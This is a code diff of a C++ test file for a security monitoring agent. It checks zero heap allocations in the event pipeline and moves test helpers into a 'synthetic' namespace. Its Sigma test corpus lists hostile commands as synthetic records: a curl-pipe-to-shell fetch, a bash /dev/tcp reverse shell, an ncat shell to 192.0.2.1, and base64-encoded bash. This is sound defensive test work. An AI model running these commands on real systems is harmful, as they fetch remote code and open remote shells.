@@ -27,9 +27,9 @@
 #include "rules/rules_file.h"
 #include "sigma/with_rules.h"
 #include "sigma/sigma_rules.h"
-#include "test/support/record_builders.h"
+#include "synthetic/record_builders.h"
 #include "test/support/fake_ring.h"
-#include "test/support/record_mix.h"
+#include "synthetic/record_mix.h"
 
 namespace {
 
@@ -143,7 +143,7 @@ namespace {
 struct EngineToDevNull {
 	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
 	BatchWriter out{devnull, 1 << 20};
-	test::FakeCgroupPaths cgroup_paths;
+	synthetic::FakeCgroupPaths cgroup_paths;
 	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096, &cgroup_paths}};
 	EngineToDevNull() { pipeline.set_rules(rules::load_default_rules().set); }
 	~EngineToDevNull() { ::close(devnull); }
@@ -157,7 +157,7 @@ TEST_CASE("zero heap allocations per event: 1M+ records of every kind through th
 	REQUIRE(engine.devnull >= 0);
 	BatchWriter &out = engine.out;
 	Pipeline &pipeline = engine.pipeline;
-	auto pool = test::record_mix();
+	auto pool = synthetic::record_mix();
 
 	// Warm-up: one pass over the mix (nothing should allocate even here,
 	// but the promise is "after warm-up").
@@ -174,10 +174,10 @@ TEST_CASE("zero heap allocations per event: 1M+ records of every kind through th
 		// A new set of pids every round of the mix: the process table (4096
 		// entries) fills and evicts all along.
 		size_t round = i / pool.size();
-		test::set_pid(r, 10000 + static_cast<uint32_t>(round) % 60000);
+		synthetic::set_pid(r, 10000 + static_cast<uint32_t>(round) % 60000);
 		// A new cgroup every round, a container's every other: each is
 		// resolved once, and the cgroup cache fills and starts over.
-		test::set_cgroup(r, (round % 2 ? test::container_cgroup_base : 2) + round % 3000);
+		synthetic::set_cgroup(r, (round % 2 ? synthetic::container_cgroup_base : 2) + round % 3000);
 		pipeline.on_record(r);
 	}
 	out.flush();
@@ -218,7 +218,7 @@ TEST_CASE("zero heap allocations per event with kill rules: their alerts say kil
 ]})",
 							    "kill.json")
 					  .set);
-	auto pool = test::record_mix();
+	auto pool = synthetic::record_mix();
 	for (auto &r : pool)
 		engine.pipeline.on_record(r);
 	engine.out.flush();
@@ -247,7 +247,7 @@ TEST_CASE("zero heap allocations from the two rings into the engine: the agent's
 	REQUIRE(engine.devnull >= 0);
 	// The mix as bytes the fake producer copies in, each ring its kinds.
 	std::vector<std::pair<uint32_t, std::string>> mix;
-	for (auto &r : test::record_mix())
+	for (auto &r : synthetic::record_mix())
 		mix.emplace_back(guard_ring_of(reinterpret_cast<const guard_header *>(r.data())->kind),
 				 std::string(r.begin(), r.end()));
 	test::FakeRing proc_net(1 << 16), file(1 << 16);
@@ -281,19 +281,19 @@ TEST_CASE("zero heap allocations from the two rings into the engine: the agent's
 // line, a user name, addresses, files.
 std::vector<std::vector<uint8_t>> sigma_records()
 {
-	test::Task parent{20, 1, "sshd", 1'000'000'000}, child{21, 20, "sh", 1'000'000'000};
+	synthetic::Task parent{20, 1, "sshd", 1'000'000'000}, child{21, 20, "sh", 1'000'000'000};
 	return {
-		test::exec_record(parent, "/usr/sbin/sshd", {"sshd: alice [priv]"}),
-		test::exec_record(child, "/bin/sh", {"sh", "-c", "curl http://x | sh"}, 0, 0, "/tmp/w"),
-		test::exec_record(child, "/bin/bash", {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"}),
-		test::exec_record(child, "/usr/bin/ncat", {"ncat", "192.0.2.1", "-e", "/bin/bash"}),
-		test::exec_record(child, "/usr/bin/certutil", {"certutil", "/decode", "a"}),
-		test::exec_record(child, "/bin/echo", {"echo", "YmFzaCAtaQ=="}),
-		test::exec_record(child, "/bin/foo", {"/bin/foo"}),
-		test::exec_record(child, "/usr/bin/python3", {"python3", "-c", "print('*star?')"}),
-		test::net_record(child, GUARD_RECORD_NET_CONNECT, AF_INET, test::ipv4(203, 0, 113, 5), 4444),
-		test::net_record(child, GUARD_RECORD_NET_ACCEPT, AF_INET, test::ipv4(203, 0, 113, 9), 55000),
-		test::file_record(child, GUARD_RECORD_FILE_RENAME, "/tmp/a", "/usr/local/bin/a", 0),
+		synthetic::exec_record(parent, "/usr/sbin/sshd", {"sshd: alice [priv]"}),
+		synthetic::exec_record(child, "/bin/sh", {"sh", "-c", "curl http://x | sh"}, 0, 0, "/tmp/w"),
+		synthetic::exec_record(child, "/bin/bash", {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"}),
+		synthetic::exec_record(child, "/usr/bin/ncat", {"ncat", "192.0.2.1", "-e", "/bin/bash"}),
+		synthetic::exec_record(child, "/usr/bin/certutil", {"certutil", "/decode", "a"}),
+		synthetic::exec_record(child, "/bin/echo", {"echo", "YmFzaCAtaQ=="}),
+		synthetic::exec_record(child, "/bin/foo", {"/bin/foo"}),
+		synthetic::exec_record(child, "/usr/bin/python3", {"python3", "-c", "print('*star?')"}),
+		synthetic::net_record(child, GUARD_RECORD_NET_CONNECT, AF_INET, synthetic::ipv4(203, 0, 113, 5), 4444),
+		synthetic::net_record(child, GUARD_RECORD_NET_ACCEPT, AF_INET, synthetic::ipv4(203, 0, 113, 9), 55000),
+		synthetic::file_record(child, GUARD_RECORD_FILE_RENAME, "/tmp/a", "/usr/local/bin/a", 0),
 	};
 }
 
@@ -304,14 +304,14 @@ TEST_CASE("zero heap allocations per event with Sigma rules: the test corpus bes
 	int devnull = ::open("/dev/null", O_WRONLY | O_CLOEXEC);
 	REQUIRE(devnull >= 0);
 	BatchWriter out{devnull, 1 << 20};
-	test::FakeCgroupPaths cgroup_paths;
+	synthetic::FakeCgroupPaths cgroup_paths;
 	Pipeline pipeline{out, 1'700'000'000'000'000'000, {false, 4096, &cgroup_paths}};
 	rules::LoadedRules loaded = rules::load_default_rules();
 	sigma::Report report =
 		sigma::add_sigma_paths(loaded, {std::string(GUARD_SOURCE_DIR) + "/test/fixtures/sigma"}, {});
 	REQUIRE(report.loaded > 20);
 	pipeline.set_rules(std::move(loaded.set));
-	auto pool = test::record_mix();
+	auto pool = synthetic::record_mix();
 	for (auto &r : sigma_records())
 		pool.push_back(r);
 
